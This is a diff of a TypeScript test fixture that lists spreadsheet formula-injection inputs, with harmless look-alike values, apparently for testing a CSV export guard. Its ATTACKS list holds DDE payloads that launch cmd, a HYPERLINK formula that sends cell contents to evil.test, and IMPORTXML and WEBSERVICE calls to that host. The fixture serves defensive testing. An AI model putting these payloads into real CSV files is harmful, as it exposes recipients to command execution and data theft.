@@ -1,16 +1,57 @@
 import { type CastingContext, parse } from 'csv-parse/sync';
 
 const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﬩'];
-const BEFORE = ['', ' ', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\t', '\r', '\n', '\0', "'", "''", '"', ';', ',', 'a;', 'a,', 'a\t', 'a\n', 'a\r\n', 'a;"', 'a";', 'a; \'', '\t\n'];
+const BEFORE = [
+  '',
+  ' ',
+  '\u00A0',
+  '\u3000',
+  '\u200B',
+  '\uFEFF',
+  '\t',
+  '\r',
+  '\n',
+  '\0',
+  "'",
+  "''",
+  '"',
+  ';',
+  ',',
+  'a;',
+  'a,',
+  'a\t',
+  'a\n',
+  'a\r\n',
+  'a;"',
+  'a";',
+  "a; '",
+  '\t\n',
+];
 const ATTACKS = [
-  "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://evil.test?x="&A1,"click")',
-  '=IMPORTXML("http://evil.test/","//a")', '=WEBSERVICE("http://evil.test/")', "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", '";=1+1;"', '\r\n=1+1;',
+  "=cmd|'/C calc'!A0",
+  "+cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '=DDE("cmd";"/C calc";"x")',
+  '=HYPERLINK("http://evil.test?x="&A1,"click")',
+  '=IMPORTXML("http://evil.test/","//a")',
+  '=WEBSERVICE("http://evil.test/")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
+  '";=1+1;"',
+  '\r\n=1+1;',
 ];
 
 /** Fields in which some spreadsheet of some country sees a formula, and harmless ones that look like it. */
 export const FORMULA_FIELDS: readonly string[] = [
-  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)), ...ATTACKS, ...ATTACKS.map((attack) => `b;${attack};c`),
-  '-90.2', "'s Gravenweg", "it's 3-4", 'x@y.test', '(=1)', '- gate 4\n- dock 2',
+  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
+  ...ATTACKS,
+  ...ATTACKS.map((attack) => `b;${attack};c`),
+  '-90.2',
+  "'s Gravenweg",
+  "it's 3-4",
+  'x@y.test',
+  '(=1)',
+  '- gate 4\n- dock 2',
 ];
 
 const LOOKS_LIKE_FORMULA = /^["\s\p{C}\p{Z}]*[=+\-@]/u;
